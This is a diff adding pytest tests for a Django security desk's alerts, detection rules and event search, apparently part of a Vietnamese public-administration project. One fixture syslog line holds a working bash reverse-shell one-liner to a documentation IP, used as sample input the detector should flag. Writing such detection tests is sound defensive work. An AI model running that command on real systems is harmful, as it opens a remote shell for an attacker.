@@ -1,0 +1,207 @@
+# SPDX-License-Identifier: EUPL-1.2
+"""Alerts at the desk: listed by gravity, taken, closed one by one or together, hidden; rules; search over the store."""
+
+from datetime import timedelta
+from zoneinfo import ZoneInfo
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+
+from tinhso.kernel.identity.queries import viewer_of_officer
+from tinhso.kernel.registry.types import PostRole
+from tinhso.modules.onestop.tests import world
+from tinhso.modules.security.actions import detecting
+from tinhso.modules.security.collect import segments
+from tinhso.modules.security.collect.reader import Batch
+from tinhso.modules.security.collect.records import Record, Way
+from tinhso.modules.security.collect.segments import Position
+from tinhso.modules.security.detection.pipeline import Machine, Pipeline
+from tinhso.modules.security.detection.rulebook import loaded
+from tinhso.modules.security.models import Alert, DetectorPlace, Suppression
+from tinhso.modules.security.store import connecting
+from tinhso.modules.security.store.client import Store
+from tinhso.modules.security.store.tests.running import Running
+
+LIST, RULES, SEARCH = (reverse(f"desk:{name}") for name in ("alerts", "detection_rules", "events"))
+LOOKED = "Đã xem, quản trị viên gõ nhầm lệnh."
+LINES = (
+    "<85>1 - may-1 sudo 5 - - lan : user NOT in sudoers",
+    "<85>1 - may-2 sudo 5 - - lan : user NOT in sudoers",
+    "<14>1 - may-1 app 5 - - bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+)
+
+
+def raised(people, *lines: str):
+    """Take lines as the detector does; return what the pipeline made of them."""
+    detecting.claim_place(7)
+    DetectorPlace.objects.update(segment=1, offset=0)
+    rulebook = loaded([])
+    pipeline = Pipeline(
+        rulebook,
+        lambda one, event: Machine(event["host"], None, people.unit.id),
+        spool=7,
+        zone=ZoneInfo("UTC"),
+        keep_days=365,
+    )
+    arrived = int(timezone.now().timestamp() * 1e9)
+    records = tuple(Record(Way.TCP, arrived, line.encode(), "10.1.2.3") for line in lines)
+    taken = pipeline.take(
+        Batch(records, Position(1, 900), starts=tuple(range(0, 100 * len(lines), 100))), Position(1, 0)
+    )
+    detecting.note_rules(rulebook)
+    detecting.keep_batch(taken, Position(1, 0), rulebook, now=timezone.now())
+    return taken
+
+
+@pytest.fixture
+def head(people, sign_in):
+    return sign_in(people.head)
+
+
+@pytest.fixture
+def alert(people) -> Alert:
+    raised(people, *LINES)
+    return Alert.objects.get(host="may-2")
+
+
+def operator(people, sign_in):
+    officer = world.officer_in(people.unit, PostRole.OPERATOR, "van-hanh")
+    return sign_in(viewer_of_officer(officer, timezone.localdate()))
+
+
+def page(one: Alert) -> str:
+    return reverse("desk:alert", args=[one.id])
+
+
+def test_the_gravest_alert_stands_on_top_with_its_author(head, alert):
+    shown = head.get(LIST).text
+    assert shown.index("Kết nối ngược") < shown.index("Lệnh sudo")
+    assert "Tỉnh Số" in shown
+    assert "may-2" in head.get(f"{LIST}?q=may-2").text
+    assert "Không có cảnh báo nào khớp" in head.get(f"{LIST}?q=khong-co").text
+    assert "Kết nối ngược" not in head.get(f"{LIST}?muc=medium").text
+    assert "Kết nối ngược" not in head.get(f"{LIST}?tt=closed").text
+    assert head.get(f"{LIST}?dang=csv").content.decode("utf-8-sig").count("\n") >= 4
+    for hostile in ("?muc=x&tt=y&ngay=z&don_vi=không", "?trang=abc", "?q=%00"):
+        assert head.get(LIST + hostile).status_code in (200, 422)
+
+
+def test_without_a_detector_the_page_says_so(head):
+    assert "Bộ phát hiện chưa chạy lần nào" in head.get(LIST).text
+
+
+def test_a_detector_that_stands_still_is_said(head, alert, settings, monkeypatch, tmp_path):
+    monkeypatch.setattr("tinhso.config.env.COLLECT_FOLDER", tmp_path)
+    segments.note_reader(tmp_path, segments.DETECTOR, Position(1, 0))
+    monkeypatch.setattr(segments, "behind", lambda folder, position: 5_000_000)
+    assert "đang dừng hoặc chậm" not in head.get(LIST).text
+    DetectorPlace.objects.update(evaluated_at=timezone.now() - timedelta(minutes=5))
+    assert "đang dừng hoặc chậm" in head.get(LIST).text
+
+
+def test_an_alert_shows_its_events_and_is_taken_and_closed(head, alert, people):
+    shown = head.get(page(alert)).text
+    for word in ("NOT in sudoers", "T1548.003", "tác giả Tỉnh Số", "EUPL-1.2"):
+        assert word in shown
+    head.post(page(alert), {"act": "take"})
+    assert Alert.objects.get(id=alert.id).taken_by_id == people.head.officer_id
+    refused = head.post(page(alert), {"act": "close", "outcome": "expected", "words": "ừ"})
+    assert (refused.status_code, "ít nhất 10 ký tự" in refused.text) == (422, True)
+    assert head.post(page(alert), {"act": "close", "outcome": "", "words": LOOKED}).status_code == 422
+    head.post(page(alert), {"act": "close", "outcome": "expected", "words": LOOKED})
+    assert "Việc có kế hoạch" in head.get(page(alert)).text
+    head.post(page(alert), {"act": "reopen"})
+    assert Alert.objects.get(id=alert.id).state == "taken"
+
+
+def test_ticked_alerts_are_closed_together(head, alert):
+    ids = [str(one.id) for one in Alert.objects.all()]
+    none = head.post(LIST, {"outcome": "false_positive", "words": LOOKED})
+    assert (none.status_code, "Hãy chọn ít nhất một" in none.text) == (422, True)
+    assert head.post(LIST, {"alert": ["x"], "outcome": "handled", "words": LOOKED}).status_code == 422
+    kept = head.post(LIST, {"alert": ids, "outcome": "false_positive", "words": "ngắn"})
+    assert (kept.status_code, kept.text.count(" checked")) == (422, 3)
+    done = head.post(LIST, {"alert": ids, "outcome": "false_positive", "words": LOOKED}, follow=True)
+    assert "Đã đóng 3 cảnh báo." in done.text
+    assert not Alert.objects.exclude(state="closed").exists()
+
+
+def test_a_rule_is_hidden_for_some_days_and_let_through_again(head, alert):
+    for days in ("", "0", "91", "ba"):
+        assert head.post(page(alert), {"act": "hide", "days": days, "why": LOOKED}).status_code == 422
+    head.post(page(alert), {"act": "hide", "days": "7", "why": LOOKED})
+    assert "đang được tạm ẩn" in head.get(page(alert)).text
+    assert "may-2" in head.get(RULES).text
+    head.post(reverse("desk:alert_end_hiding", args=[Suppression.objects.get().id]), {"alert": str(alert.id)})
+    assert "đang được tạm ẩn" not in head.get(page(alert)).text
+
+
+def test_another_unit_neither_sees_nor_handles(people, sign_in, alert):
+    other = sign_in(world.staff(world.unit_of(world.OTHER_COMMUNE)).head)
+    assert "Lệnh sudo" not in other.get(LIST).text
+    assert other.get(page(alert)).status_code == 404
+    assert other.post(page(alert), {"act": "take"}).status_code == 404
+
+
+def test_rules_are_listed_and_switched_by_operators(head, alert, people, sign_in):
+    shown = head.get(RULES).text
+    assert "Lệnh sudo bị từ chối" in shown
+    assert "T1110" in shown
+    one = f"{reverse('desk:detection_rule')}?ma={alert.rule_key}"
+    assert "Tắt luật này" not in head.get(one).text
+    assert head.post(one, {"act": "off", "words": LOOKED}).status_code == 403
+    run = operator(people, sign_in)
+    assert run.post(one, {"act": "off", "words": "ừ"}).status_code == 422
+    assert "Đã tắt luật" in run.post(one, {"act": "off", "words": LOOKED}, follow=True).text
+    assert "Lệnh sudo bị từ chối" in head.get(f"{RULES}?tt=off").text
+    assert "Lệnh sudo bị từ chối" not in head.get(f"{RULES}?dang=csv").content.decode("utf-8-sig")
+    assert head.get(f"{reverse('desk:detection_rule')}?ma=khong").status_code == 404
+
+
+@pytest.fixture(scope="module")
+def running(tmp_path_factory):
+    found = Running(tmp_path_factory.mktemp("store"))
+    found.store.prepare()
+    yield found
+    found.stop()
+
+
+def test_events_are_searched_and_opened(head, people, sign_in, running, monkeypatch):
+    monkeypatch.setattr(connecting, "store", lambda: running.store)
+    running.store.insert(raised(people, *LINES).rows)
+    shown = head.get(f"{SEARCH}?q=sudoers").text
+    assert "2 sự kiện" in shown
+    assert "<rect" in shown
+    one = head.get(reverse("desk:event", args=["00000007-1-0-0"])).text
+    assert "NOT in sudoers" in one
+    assert "may%3A%22may-1%22" in one
+    for missing in ("00000007-1-1-0", "x", "00000007-1-0-0-0", "zz-1-0-0", "00000007-1-" + "9" * 40 + "-0"):
+        assert head.get(reverse("desk:event", args=[missing])).status_code == 404
+
+    other = sign_in(world.staff(world.unit_of(world.OTHER_COMMUNE)).head)
+    assert "Không có sự kiện nào khớp" in other.get(f"{SEARCH}?q=sudoers").text
+    assert other.get(reverse("desk:event", args=["00000007-1-0-0"])).status_code == 404
+
+
+@pytest.mark.parametrize(
+    ("asked", "status", "sentence"),
+    [
+        ("q=xyz:1", 422, "Không có mục “xyz”"),
+        ("q=%22", 422, "Thiếu một dấu ngoặc kép"),
+        ("tu=hôm-qua", 422, "Thời gian phải ghi như"),
+        ("tu=2026-03-02T08:00&den=2026-03-02T07:00", 422, "phải trước"),
+        ("tu=2026-99-99T08:00", 422, "Thời gian phải ghi như"),
+    ],
+)
+def test_a_question_that_cannot_be_asked_says_why(head, running, monkeypatch, asked, status, sentence):
+    monkeypatch.setattr(connecting, "store", lambda: running.store)
+    answer = head.get(f"{SEARCH}?{asked}")
+    assert (answer.status_code, sentence in answer.text) == (status, True)
+
+
+def test_a_store_that_is_away_is_said(head, monkeypatch):
+    monkeypatch.setattr(connecting, "store", lambda: Store("http://127.0.0.1:9/"))
+    answer = head.get(f"{SEARCH}?q=a")
+    assert (answer.status_code, "Kho sự kiện đang không trả lời" in answer.text) == (503, True)
+    assert head.get(reverse("desk:event", args=["00000007-1-0-0"])).status_code == 503
